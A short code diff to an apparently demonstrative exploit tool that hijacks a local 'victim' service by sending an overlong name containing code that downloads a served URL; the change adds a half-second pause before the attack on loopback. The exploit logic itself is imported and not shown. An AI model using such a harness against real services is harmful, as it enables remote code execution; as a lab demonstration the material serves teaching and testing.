@@ -16,6 +16,7 @@ from eudaemon.demo.victim import PORT, VictimError, attack, become
 
 NAME = "/demo.elf"
 DOWNLOADS_MAX = 8  # at most so many are answered while the attack lasts
+PAUSE_S = 0.5  # between a look at the victim and the attack: on the loopback there is no round trip to use
 TRY_S = 5.0  # a peer that connects and says nothing
 
 
@@ -43,7 +44,7 @@ def hijack(arguments: argparse.Namespace) -> int:
     with _serving(arguments.url) as (url, asked):
         print(f"http {arguments.host}:{port}: a name that is too long, with code in it that downloads {url} …")
         try:
-            outcome = attack(arguments.host, port, url)
+            outcome = attack(arguments.host, port, url, PAUSE_S)
         except ValueError as error:
             print(f"eudaemon: {error}")
             return WRONG_USE
